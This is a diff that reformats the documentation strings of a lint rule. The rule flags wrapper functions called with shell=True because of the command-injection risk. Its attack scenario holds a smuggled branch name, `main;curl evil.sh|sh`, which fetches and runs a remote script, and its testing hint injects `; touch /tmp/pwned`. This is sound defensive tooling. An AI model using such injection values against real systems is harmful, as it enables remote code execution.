@@ -22,14 +22,20 @@ export default defineRule({
       shell: '`{{fn}}` is called with shell=True; if it wraps a process start, its command is parsed by a shell.',
     },
     docs: {
-      whatItDoes: 'Flags calls to functions other than the `subprocess` ones that pass `shell=True` (wrappers such as `utils.execute`, `invoke.run`, `fabric` helpers).',
-      whyBad: 'Helpers with a `shell` flag usually forward it to `subprocess`; their command string then goes through `/bin/sh` with all its injection risks.',
-      businessImpact: 'Command injection through an in-house wrapper is as severe as through subprocess itself: remote code execution.',
-      attackScenario: 'A deploy helper `run(cmd, shell=True)` receives a branch name from a webhook; the attacker names a branch `main;curl evil.sh|sh`.',
+      whatItDoes:
+        'Flags calls to functions other than the `subprocess` ones that pass `shell=True` (wrappers such as `utils.execute`, `invoke.run`, `fabric` helpers).',
+      whyBad:
+        'Helpers with a `shell` flag usually forward it to `subprocess`; their command string then goes through `/bin/sh` with all its injection risks.',
+      businessImpact:
+        'Command injection through an in-house wrapper is as severe as through subprocess itself: remote code execution.',
+      attackScenario:
+        'A deploy helper `run(cmd, shell=True)` receives a branch name from a webhook; the attacker names a branch `main;curl evil.sh|sh`.',
       example: 'utils.execute("tar xf " + archive, shell=True)',
       useInstead: 'utils.execute(["tar", "xf", archive])',
-      testing: 'Check what the wrapper forwards `shell` to, then call it with `; touch /tmp/pwned` in the command and assert nothing is created.',
-      knownProblems: 'The rule cannot see inside the called function; a parameter merely named `shell` that is unrelated to processes is a false positive.',
+      testing:
+        'Check what the wrapper forwards `shell` to, then call it with `; touch /tmp/pwned` in the command and assert nothing is created.',
+      knownProblems:
+        'The rule cannot see inside the called function; a parameter merely named `shell` that is unrelated to processes is a false positive.',
       references: ['https://cwe.mitre.org/data/definitions/78.html'],
     },
   },
